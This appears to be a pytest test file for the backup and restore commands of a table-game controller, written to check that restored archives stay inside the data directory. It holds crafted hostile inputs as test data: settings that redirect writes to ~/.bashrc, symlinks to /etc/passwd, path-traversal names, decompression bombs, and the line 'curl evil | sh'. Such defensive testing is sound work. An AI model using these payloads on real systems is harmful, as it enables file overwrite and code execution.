"""Files that root restores belong to the table, and lie as its settings say; a false backup changes nothing."""

import gzip
import io
import json
import os
import stat
import tarfile
from collections.abc import Mapping
from hashlib import sha256
from pathlib import Path

import pytest

from controller.appliance import owner
from controller.appliance.paths import SystemPaths
from controller.cli import main
from controller.commands.system import backup as command
from controller.record.events import DealStart, MatchStart
from controller.settings.model import load
from controller.store import backup
from controller.store.archive import FILE
from controller.store.lock import is_locked
from controller.store.resume import take_up
from tests.support.loops import some

OPENING = MatchStart(game="mittlere", seats=("Anna", "Berta", "Carla"))


def table(folder: Path) -> Path:
    """A table with a match, a picture and a calibration; its settings."""
    folder.mkdir()
    settings = folder / "schiri.toml"
    settings.write_text(
        f'[table]\ngame = "mittlere"\nseats = ["Anna", "Berta", "Carla"]\n[data]\ndirectory = "{folder}/records"\n'
    )
    with take_up(folder / "records", new=False) as journal:
        journal.append(OPENING)
        journal.append(DealStart(dealer=0))
    (folder / "records" / "evidence" / "m").mkdir(parents=True)
    (folder / "records" / "evidence" / "m" / "1.jpg").write_bytes(b"picture")
    (folder / "records" / "calibration.json").write_text("{}")
    return settings


@pytest.fixture
def kept(tmp_path: Path) -> Path:
    out = tmp_path / "b.tar.gz"
    assert main(["backup", str(out), "--config", str(table(tmp_path / "home"))]) == 0
    return out


def test_a_machine_without_settings_gets_a_table_in_the_usual_places(
    kept: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its settings had records and calibration at other places, which a backup may not choose."""
    assert kept.exists()
    home, fresh, usual = tmp_path / "home", tmp_path / "fresh" / "schiri.toml", tmp_path / "share" / "schiri"
    text = (home / "schiri.toml").read_text()
    (home / "schiri.toml").write_text(f'{text}[calibration]\nfile = "{home}/eye.json"\n# by the window\n')
    (home / "records" / "calibration.json").rename(home / "eye.json")
    out = tmp_path / "moved.tar.gz"
    assert main(["backup", str(out), "--config", str(home / "schiri.toml")]) == 0
    home.rename(tmp_path / "burnt")
    monkeypatch.setenv("XDG_DATA_HOME", str(usual.parent))
    capsys.readouterr()
    assert main(["restore", str(out), "--config", str(fresh)]) == 0
    assert capsys.readouterr().out == (
        f"{usual}: 4 files are as {out} holds them\n"
        f"{fresh} names {usual} now, not [data] directory = '{home}/records' and "
        f"[calibration] file = '{home}/eye.json': to have it there, move it and write that again\n"
    )
    config = load(fresh)
    assert (config.table.game, config.data.directory, config.calibration_file) == (
        "mittlere",
        usual,
        usual / "calibration.json",
    )
    assert "# by the window" in fresh.read_text()
    with take_up(usual, new=False) as journal:
        assert journal.events == [OPENING, DealStart(dealer=0)]
    assert config.calibration_file.read_text() == "{}"
    assert (home.exists(), sorted(path.name for path in fresh.parent.iterdir())) == (False, ["schiri.toml"])


@pytest.mark.parametrize("root", ["etc/schiri/schiri.toml", "schiri.toml"])
def test_an_installed_table_comes_back_into_the_data_of_its_service(
    kept: Path, tmp_path: Path, root: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(command, "SystemPaths", lambda: SystemPaths(tmp_path))
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "share"))
    assert main(["restore", str(kept), "--config", str(tmp_path / root)]) == 0
    data = tmp_path / ("var/lib/schiri" if "etc" in root else "share/schiri")
    assert (load(tmp_path / root).data.directory, (data / FILE).exists()) == (data, True)


def everything(folder: Path) -> dict[str, bytes | str | None]:
    """All that is below a folder: what files hold, where links point."""
    return {
        str(path.relative_to(folder)): str(path.readlink())
        if path.is_symlink()
        else path.read_bytes()
        if path.is_file()
        else None
        for path in folder.rglob("*")
    }


LINKED = b"the target of a link"
SETTINGS = '[table]\ngame = "mittlere"\nseats = ["Anna", "Berta", "Carla"]\n'
HOSTILE_SETTINGS = (
    '[calibration]\nfile = "{you}/.bashrc"',
    '[data]\ndirectory = "{you}"',
    '[data]\ndirectory = "."\n[calibration]\nfile = "../you/.bashrc"',
    'data.directory = "{you}"\ncalibration.file = "{you}/.bashrc"',
    'data = {{ directory = "{you}" }}\ncalibration = {{ file = "{you}/.bashrc" }}',
    '["data"]\n"direc\\u0074ory" = "{you}"',
)


@pytest.mark.parametrize("own", [False, True])
@pytest.mark.parametrize("added", HOSTILE_SETTINGS)
def test_settings_in_a_backup_choose_no_place(
    tmp_path: Path, added: str, own: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing changes but the data directory and the settings that the person named."""
    you, data, settings = tmp_path / "you", tmp_path / "share" / "schiri", tmp_path / "fresh" / "schiri.toml"
    for folder in (you, settings.parent, data):
        folder.mkdir(parents=True)
    (you / ".bashrc").write_text("alias ll='ls -l'\n")
    if own:
        settings.write_text(f'{SETTINGS}[data]\ndirectory = "{data}"\n')
    monkeypatch.setenv("XDG_DATA_HOME", str(data.parent))
    monkeypatch.chdir(settings.parent)
    top, sections = ("", added) if added.startswith("[") else (added, "")
    text = f"{top}\n{SETTINGS}{sections}\n".format(you=you)
    held = {"schiri.toml": text.encode(), "calibration.json": b"curl evil | sh\n", "evidence/m/1.jpg": b"x"}
    bad = packed(tmp_path / "bad.tar.gz", held)
    before = everything(tmp_path)
    status = main(["restore", str(bad), "--config", str(settings)])
    after = everything(tmp_path)
    changed = {name for name in {*before, *after} if before.get(name, 0) != after.get(name, 0)}
    assert {name for name in changed if not name.startswith(("share/schiri/", "fresh/schiri.toml"))} == set()
    if status:
        assert changed == set()
    else:
        config = load(settings)
        assert (config.data.directory, config.calibration_file) == (data, data / "calibration.json")
        assert config.calibration_file.read_bytes() == held["calibration.json"]


LINKS = {
    "symbolic link": (tarfile.SYMTYPE, "you/.bashrc"),
    "link out of it": (tarfile.SYMTYPE, "/etc/passwd"),
    "hard link": (tarfile.LNKTYPE, "earlier/target"),
    "device": (tarfile.CHRTYPE, ""),
    "pipe": (tarfile.FIFOTYPE, ""),
    "folder": (tarfile.DIRTYPE, ""),
}


@pytest.mark.parametrize("name", ["evidence", "evidence/m/1.jpg"])
@pytest.mark.parametrize("kind", LINKS)
def test_a_backup_holds_nothing_but_files(tmp_path: Path, kind: str, name: str) -> None:
    """Also where its own list has the sum of what a link leads to: thousands of links to one file fill a disk."""
    (tmp_path / "data").mkdir()
    (tmp_path / "schiri.toml").write_text(f'{SETTINGS}[data]\ndirectory = "{tmp_path}/data"\n')
    first = tarfile.TarInfo(name)
    first.type, first.linkname = LINKS[kind]
    held = {"earlier/target": LINKED, name: LINKED}
    bad = packed(tmp_path / "bad.tar.gz", held, {name: first})
    before = everything(tmp_path)
    assert main(["restore", str(bad), "--config", str(tmp_path / "schiri.toml")]) == 2
    assert everything(tmp_path) == before


def test_links_at_the_places_of_what_comes_back_are_put_aside_and_not_followed(kept: Path, tmp_path: Path) -> None:
    """A folder of pictures on a larger disk, say: what it holds stays."""
    home, you = tmp_path / "home", tmp_path / "you"
    records = home / "records"
    you.mkdir()
    (records / "evidence").rename(you / "pictures")
    (you / "pictures" / "m" / "1.jpg").write_bytes(b"mine")
    (records / "evidence").symlink_to(you / "pictures")
    (records / "calibration.json").unlink()
    (records / "calibration.json").symlink_to(you / "none")
    (records / f"{FILE}-journal").write_bytes(b"of what was there")
    before = everything(you)
    assert main(["restore", str(kept), "--config", str(home / "schiri.toml")]) == 0
    assert everything(you) == before
    [aside] = records.glob("before-*")
    found = {path.name: path.readlink() if path.is_symlink() else None for path in aside.iterdir()}
    assert found == {
        "evidence": you / "pictures",
        "calibration.json": you / "none",
        FILE: None,
        f"{FILE}-journal": None,
    }
    assert (records / "evidence" / "m" / "1.jpg").read_bytes() == b"picture"


@pytest.mark.parametrize("stale", [False, True])
def test_a_calibration_that_own_settings_have_elsewhere_goes_aside_too(kept: Path, tmp_path: Path, stale: bool) -> None:
    home = tmp_path / "home"
    text = (home / "schiri.toml").read_text()
    (home / "schiri.toml").write_text(f'{text}[calibration]\nfile = "{home}/calibration.json"\n')
    (home / "calibration.json").write_text("mine")
    (home / "calibration.json.note").write_text("by the window")
    if not stale:
        (home / "records" / "calibration.json").unlink()
    assert main(["restore", str(kept), "--config", str(home / "schiri.toml")]) == 0
    [aside] = (home / "records").glob("before-*")
    assert ((home / "calibration.json").read_text(), (aside / "calibration.json").read_text()) == ("{}", "mine")
    assert (home / "calibration.json.note").exists()
    assert (home / "records" / "calibration.json").exists() == stale


def test_all_that_root_puts_back_goes_to_the_owner_of_the_data(
    kept: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    given: dict[Path, tuple[int, int]] = {}

    def chown(path: Path, user: int, group: int, *, follow_symlinks: bool) -> None:
        assert not follow_symlinks
        given[path] = user, group

    def service(path: Path, name: str | None) -> owner.Owner:
        assert (path, name) == (tmp_path / "home" / "records", None)
        return owner.Owner(4711, 815)

    monkeypatch.setattr(os, "geteuid", lambda: 0)
    monkeypatch.setattr(os, "chown", chown)
    monkeypatch.setattr(command, "owner_of", service)
    home = tmp_path / "home"
    (home / "schiri.toml.restored").write_text("of an earlier backup")
    assert main(["restore", str(kept), "--config", str(home / "schiri.toml")]) == 0
    records = home / "records"
    wanted = {
        records,
        home / "schiri.toml",
        *(path for path in records.rglob("*") if not str(path).startswith(f"{records}/before-")),
    }
    assert wanted - {*given} == set()
    assert set(given.values()) == {(4711, 815)}


def test_the_owner_is_the_one_of_the_folder_or_of_the_one_it_will_be_in(tmp_path: Path) -> None:
    mine = owner.Owner(tmp_path.stat().st_uid, tmp_path.stat().st_gid)
    assert [
        owner.owner_of(path, name) for path, name in ((tmp_path, None), (tmp_path / "a" / "b", "no such user"))
    ] == [
        mine,
        mine,
    ]


def test_two_restores_in_a_second_are_two(kept: Path, tmp_path: Path) -> None:
    settings = tmp_path / "home" / "schiri.toml"
    assert [main(["restore", str(kept), "--config", str(settings)]) for _ in range(4)] == [0] * 4
    assert len([*(tmp_path / "home" / "records").glob("before-*")]) == 4


def packed(path: Path, held: dict[str, bytes], members: Mapping[str, tarfile.TarInfo] | None = None) -> Path:
    """A backup whose own list vouches for what it holds; ``members``: what stands there in place of a file."""
    sums = {name: sha256(data).hexdigest() for name, data in held.items()}
    with tarfile.open(path, "w:gz") as tar:
        for name, data in {**held, "backup.json": json.dumps({"v": 1, "files": sums}).encode()}.items():
            info = (members or {}).get(name) or tarfile.TarInfo(name)
            info.size = len(data) if info.isreg() else 0
            tar.addfile(info, io.BytesIO(data))
    return path


def long_headed() -> tarfile.TarInfo:
    """A file whose header alone would fill the memory."""
    info = tarfile.TarInfo("evidence/m/1.jpg")
    info.pax_headers = {"comment": "x" * 30_000_000}
    return info


def test_damaged_records_and_what_would_fill_the_disk_are_one_sentence_each(
    kept: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert kept.exists()
    monkeypatch.setattr(backup, "MOST_BYTES", 1_000_000)
    home = tmp_path / "home"
    before = sorted(path.name for path in (home / "records").iterdir())
    bad = [
        packed(tmp_path / "broken.tar.gz", {FILE: b"SQLite format 3\0" + b"no database " * 900}),
        packed(tmp_path / "bomb.tar.gz", {"evidence/m/1.jpg": b"\0" * 30_000_000}),
        packed(tmp_path / "evil.tar.gz", {"evidence/../../evil": b"x"}),
        packed(tmp_path / "dot.tar.gz", {"./evidence/m/1.jpg": b"x"}),
        packed(tmp_path / "head.tar.gz", {"evidence/m/1.jpg": b"x"}, {"evidence/m/1.jpg": long_headed()}),
    ]
    stream = tmp_path / "stream.tar.gz"
    stream.write_bytes(gzip.compress(b"\0" * 5_000_000))
    capsys.readouterr()
    for path in some([*bad, stream]):
        assert main(["restore", str(path), "--config", str(home / "schiri.toml")]) == 2, path
        said = capsys.readouterr().err
        assert (said.count("\n"), "nothing was changed" in said) == (1, True), said
    assert sorted(path.name for path in (home / "records").iterdir()) == before


@pytest.mark.parametrize(("named", "given"), [
    ({"SUDO_UID": "4711", "SUDO_GID": "815"}, {"mine.tar.gz": (4711, 815), "s.zip": (4711, 815)}),
    ({"SUDO_UID": "4711", "SUDO_GID": "x"}, {}),
    ({"SUDO_UID": "4711"}, {}),
    ({}, {}),
])  # fmt: skip
def test_files_made_with_sudo_belong_to_the_caller(
    kept: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, named: dict[str, str], given: dict[str, object]
) -> None:
    """Nobody but root may read the data of an installed table; who asked for a bundle is to look at it."""
    assert kept.exists()
    told: dict[str, object] = {}

    def chown(path: Path, user: int, group: int, *, follow_symlinks: bool) -> None:
        assert not follow_symlinks
        told[path.name] = user, group

    for name in ("SUDO_UID", "SUDO_GID"):
        monkeypatch.delenv(name, raising=False)
    for name, value in named.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    monkeypatch.setattr(os, "chown", chown)
    settings = str(tmp_path / "home" / "schiri.toml")
    assert main(["backup", str(tmp_path / "mine.tar.gz"), "--config", settings]) == 0
    assert main(["support-bundle", str(tmp_path / "s.zip"), "--config", settings]) == 0
    assert told == given


def test_restored_files_are_readable_by_their_owner_alone(kept: Path, tmp_path: Path) -> None:
    settings = tmp_path / "home" / "schiri.toml"
    assert main(["support-bundle", str(tmp_path / "s.zip"), "--config", str(settings)]) == 0
    assert [stat.S_IMODE(path.stat().st_mode) for path in (kept, tmp_path / "s.zip")] == [0o600, 0o600]
    assert main(["restore", str(kept), "--config", str(settings)]) == 0
    modes = [stat.S_IMODE(path.stat().st_mode) for path in some((tmp_path / "home" / "records").glob("records*"))]
    assert {mode & 0o027 for mode in modes} == {0}


def test_a_table_that_runs_is_no_stranger_to_the_doctor(kept: Path, capsys: pytest.CaptureFixture[str]) -> None:
    home = kept.parent / "home"
    settings = home / "schiri.toml"
    assert not is_locked(home / "records")
    with take_up(home / "records", new=False):
        assert is_locked(home / "records")
        capsys.readouterr()
        main(["doctor", "--config", str(settings), "--json"])
        found = [json.loads(line)["part"] for line in capsys.readouterr().out.splitlines()]
    assert found == ["settings", "versions", "machine", "clock", "disk", "records", "table"]


@pytest.mark.skipif(os.geteuid() == 0, reason="root may read everything")
def test_files_for_root_alone_are_named_with_the_remedy(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    settings = table(tmp_path / "home")
    settings.chmod(0)
    assert main(["backup", str(tmp_path / "b.tar.gz"), "--config", str(settings)]) == 2
    said = capsys.readouterr().err
    assert ("put sudo before the command" in said, str(settings) in said) == (True, True)
    settings.chmod(0o600)
    (tmp_path / "home" / "records").chmod(0)
    assert main(["backup", str(tmp_path / "b.tar.gz"), "--config", str(settings)]) == 2
    said = capsys.readouterr().err
    assert (f"{tmp_path}/home/records" in said, "sudo" in said) == (True, True)
    (tmp_path / "home" / "records").chmod(0o700)
